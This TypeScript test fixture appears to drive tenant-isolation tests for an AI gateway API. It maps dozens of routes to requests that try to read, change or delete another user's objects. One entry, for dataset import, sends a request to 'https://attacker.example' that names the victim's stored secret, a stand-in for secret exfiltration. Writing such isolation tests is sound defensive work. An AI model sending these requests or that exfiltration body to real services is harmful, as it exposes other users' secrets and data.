/** Ids of objects created by one user. */
export interface Victim {
  readonly file: string;
  readonly batch: string;
  readonly response: string;
  readonly dataset: string;
  readonly upload: string;
  readonly experiment: string;
  readonly workflow: string;
  readonly job: string;
  /** Also the ID of a request, and a label of the feedback on it. */
  readonly secret: string;
  readonly feedback: string;
}

/** A request that references or lists an object created by a user. */
export interface TenantRequest {
  readonly path: string;
  readonly body?: unknown;
  readonly headers?: Record<string, string>;
}

const TUS = { 'Tus-Resumable': '1.0.0' };
const TASK = { task: 'text-classification' };
const MODEL = { model: 'fast', provider: 'gateway' };
const chat = (ids: Victim) => ({ model: 'fast', input: 'x', previous_response_id: ids.response });
const job = ({ dataset }: Victim, more: object) => ({
  name: 'j',
  dataset,
  job_config: { ...more, task_definition: TASK },
});

/** Every route that reads, lists, changes, deletes or uses a user's objects, with another user's request. */
export const TENANT_ROUTES: Readonly<Record<string, (ids: Victim) => TenantRequest>> = {
  'POST /v1/responses': (ids) => ({ path: '/v1/responses', body: chat(ids) }),
  'POST /openai/responses': (ids) => ({ path: '/openai/responses', body: chat(ids) }),
  'POST /openai/v1/responses': (ids) => ({ path: '/openai/v1/responses', body: chat(ids) }),
  'GET /v1/responses/:id': ({ response }) => ({ path: `/v1/responses/${response}` }),
  'GET /v1/responses/:id/input_items': ({ response }) => ({ path: `/v1/responses/${response}/input_items` }),
  'POST /v1/responses/:id/cancel': ({ response }) => ({ path: `/v1/responses/${response}/cancel` }),
  'DELETE /v1/responses/:id': ({ response }) => ({ path: `/v1/responses/${response}` }),
  'GET /v1/files': () => ({ path: '/v1/files' }),
  'GET /v1/files/:id': ({ file }) => ({ path: `/v1/files/${file}` }),
  'GET /v1/files/:id/content': ({ file }) => ({ path: `/v1/files/${file}/content` }),
  'DELETE /v1/files/:id': ({ file }) => ({ path: `/v1/files/${file}` }),
  'POST /v1/batches': ({ file }) => ({
    path: '/v1/batches',
    body: { input_file_id: file, endpoint: '/v1/chat/completions', completion_window: '24h' },
  }),
  'GET /v1/batches': () => ({ path: '/v1/batches' }),
  'GET /v1/batches/:id': ({ batch }) => ({ path: `/v1/batches/${batch}` }),
  'POST /v1/batches/:id/cancel': ({ batch }) => ({ path: `/v1/batches/${batch}/cancel` }),
  'GET /api/v1/datasets': () => ({ path: '/api/v1/datasets' }),
  'POST /api/v1/datasets/import': ({ secret }) => ({
    path: '/api/v1/datasets/import',
    body: { source: 'hf:a/b', hf: { endpoint: 'https://attacker.example', secret_key_name: secret } },
  }),
  'GET /api/v1/datasets/:id': ({ dataset }) => ({ path: `/api/v1/datasets/${dataset}` }),
  'PATCH /api/v1/datasets/:id': ({ dataset }) => ({
    path: `/api/v1/datasets/${dataset}`,
    body: { tags: ['x'] },
  }),
  'DELETE /api/v1/datasets/:id': ({ dataset }) => ({ path: `/api/v1/datasets/${dataset}` }),
  'GET /api/v1/datasets/:id/download': ({ dataset }) => ({ path: `/api/v1/datasets/${dataset}/download` }),
  'GET /api/v1/uploads/:id': ({ upload }) => ({ path: `/api/v1/uploads/${upload}`, headers: TUS }),
  'PATCH /api/v1/uploads/:id': ({ upload }) => ({
    path: `/api/v1/uploads/${upload}`,
    body: 'examples\n',
    headers: { ...TUS, 'Upload-Offset': '0', 'Content-Type': 'application/offset+octet-stream' },
  }),
  'DELETE /api/v1/uploads/:id': ({ upload }) => ({ path: `/api/v1/uploads/${upload}`, headers: TUS }),
  'POST /api/v1/experiments': ({ dataset }) => ({
    path: '/api/v1/experiments',
    body: { name: 'x', dataset, task_definition: TASK },
  }),
  'GET /api/v1/experiments': () => ({ path: '/api/v1/experiments' }),
  'GET /api/v1/experiments/all': () => ({ path: '/api/v1/experiments/all' }),
  'GET /api/v1/experiments/:id': ({ experiment }) => ({ path: `/api/v1/experiments/${experiment}` }),
  'PATCH /api/v1/experiments/:id': ({ experiment }) => ({
    path: `/api/v1/experiments/${experiment}`,
    body: { description: 'd' },
  }),
  'DELETE /api/v1/experiments/:id': ({ experiment }) => ({ path: `/api/v1/experiments/${experiment}` }),
  'GET /api/v1/experiments/:id/compare': ({ experiment }) => ({
    path: `/api/v1/experiments/${experiment}/compare`,
  }),
  'GET /api/v1/experiments/:id/agreement': ({ experiment }) => ({
    path: `/api/v1/experiments/${experiment}/agreement?raters=examples,ground_truth`,
  }),
  'GET /api/v1/experiments/:id/matrix': ({ experiment }) => ({
    path: `/api/v1/experiments/${experiment}/matrix`,
  }),
  'GET /api/v1/experiments/:id/rows': ({ experiment }) => ({
    path: `/api/v1/experiments/${experiment}/rows`,
  }),
  'GET /api/v1/experiments/:id/plots': ({ experiment }) => ({
    path: `/api/v1/experiments/${experiment}/plots`,
  }),
  'GET /api/v1/experiments/:id/progress': ({ experiment }) => ({
    path: `/api/v1/experiments/${experiment}/progress`,
  }),
  'GET /api/v1/experiments/:id/report': ({ experiment }) => ({
    path: `/api/v1/experiments/${experiment}/report`,
  }),
  'POST /api/v1/workflows': ({ experiment }) => ({
    path: '/api/v1/workflows',
    body: { name: 'w', experiment_id: experiment, ...MODEL },
  }),
  'GET /api/v1/workflows': () => ({ path: '/api/v1/workflows' }),
  'GET /api/v1/workflows/:id': ({ workflow }) => ({ path: `/api/v1/workflows/${workflow}` }),
  'PATCH /api/v1/workflows/:id': ({ workflow }) => ({
    path: `/api/v1/workflows/${workflow}`,
    body: { tags: ['x'] },
  }),
  'GET /api/v1/workflows/:id/logs': ({ workflow }) => ({ path: `/api/v1/workflows/${workflow}/logs` }),
  'GET /api/v1/workflows/:id/result/download': ({ workflow }) => ({
    path: `/api/v1/workflows/${workflow}/result/download`,
  }),
  'POST /api/v1/workflows/:id/cancel': ({ workflow }) => ({ path: `/api/v1/workflows/${workflow}/cancel` }),
  'POST /api/v1/workflows/:id/retry': ({ workflow }) => ({ path: `/api/v1/workflows/${workflow}/retry` }),
  'GET /api/v1/workflows/:id/rows': ({ workflow }) => ({ path: `/api/v1/workflows/${workflow}/rows` }),
  'DELETE /api/v1/workflows/:id': ({ workflow }) => ({ path: `/api/v1/workflows/${workflow}` }),
  'POST /api/v1/jobs/inference': (ids) => ({
    path: '/api/v1/jobs/inference',
    body: job(ids, { job_type: 'inference', ...MODEL }),
  }),
  'POST /api/v1/jobs/annotate': (ids) => ({
    path: '/api/v1/jobs/annotate',
    body: job(ids, { job_type: 'annotate', ...MODEL }),
  }),
  'POST /api/v1/jobs/evaluator': (ids) => ({
    path: '/api/v1/jobs/evaluator',
    body: job(ids, { job_type: 'evaluator' }),
  }),
  'GET /api/v1/jobs': () => ({ path: '/api/v1/jobs' }),
  'GET /api/v1/jobs/:id': (ids) => ({ path: `/api/v1/jobs/${ids.job}` }),
  'GET /api/jobs/:id': (ids) => ({ path: `/api/jobs/${ids.job}` }),
  'GET /api/v1/jobs/:id/logs': (ids) => ({ path: `/api/v1/jobs/${ids.job}/logs` }),
  'POST /api/v1/jobs/:id/cancel': (ids) => ({ path: `/api/v1/jobs/${ids.job}/cancel` }),
  'POST /api/v1/jobs/:id/retry': (ids) => ({ path: `/api/v1/jobs/${ids.job}/retry` }),
  'GET /api/v1/jobs/:id/rows': (ids) => ({ path: `/api/v1/jobs/${ids.job}/rows` }),
  'GET /api/v1/jobs/:id/result': (ids) => ({ path: `/api/v1/jobs/${ids.job}/result` }),
  'GET /api/v1/jobs/:id/dataset': (ids) => ({ path: `/api/v1/jobs/${ids.job}/dataset` }),
  'GET /api/v1/jobs/:id/result/download': (ids) => ({ path: `/api/v1/jobs/${ids.job}/result/download` }),
  'GET /api/v1/artifacts/:file': ({ dataset }) => ({
    path: `/api/v1/artifacts/${dataset}.csv?expires=9999999999&sig=x`,
  }),
  'GET /api/v1/settings/secrets': () => ({ path: '/api/v1/settings/secrets' }),
  'DELETE /api/v1/settings/secrets/:name': ({ secret }) => ({ path: `/api/v1/settings/secrets/${secret}` }),
  'POST /v1/feedback': ({ secret }) => ({
    path: '/v1/feedback',
    body: { request_id: secret, thumb: 'down' },
  }),
  'GET /v1/feedback': () => ({ path: '/v1/feedback' }),
  'DELETE /v1/feedback/:id': ({ feedback }) => ({ path: `/v1/feedback/${feedback}` }),
  'POST /api/v1/datasets/from-requests': () => ({ path: '/api/v1/datasets/from-requests', body: {} }),
  'GET /v1/usage/feedback': () => ({ path: '/v1/usage/feedback' }),
  'GET /v1/requests': () => ({ path: '/v1/requests' }),
  'GET /v1/requests/live': () => ({ path: '/v1/requests/live' }),
  'GET /v1/usage': () => ({ path: '/v1/usage' }),
  'GET /v1/usage/spending': () => ({ path: '/v1/usage/spending' }),
  'GET /v1/usage/latency': () => ({ path: '/v1/usage/latency' }),
};

/** Routes that reference no user objects, by path prefix. */
export const OTHER_ROUTES: readonly RegExp[] = [
  // Pages, documents and program status.
  /^GET \/(?:healthz|readyz|metrics|health.*|\.well-known\/jwks\.json|docs|openapi\.\w+|assets\/.*|\*|)$/,
  /^GET \/api\/v1\/(?:health|models)$/,
  // A worker has the token of a single job.
  /^\w+ \/api\/v1\/worker\//,
  // Access depends on roles, see roles.test.ts.
  /^\w+ \/v1\/(?:users|keys|teams|organizations|budgets|tags|alerts|providers|aliases|cache|pricing|price-map)\b/,
  /^\w+ \/v1\/(?:guardrail-hits|provider-states|provider-keys|queues|admin|shadow)\b/,
  /^\w+ \/v1\/me\b/,
  /^\w+ \/auth\//,
  /^GET \/v1\/requests\/:id$/,
  // New objects, which belong to the caller.
  /^POST \/(?:v1\/files|api\/v1\/(?:datasets|uploads))$/,
  /^PUT \/api\/v1\/settings\/secrets\/:name$/,
  // Models; references in their bodies are checked in one place for all of them.
  /^POST \/v1\/(?:chat|messages|embeddings|classify|completions|moderations|rerank|images|audio)\b/,
  /^\w+ \/v1(?:beta)?\/models\b/,
  /^POST \/v1\/responses\/input_tokens$/,
  /^POST \/openai\/(?:deployments|v1)\//,
];
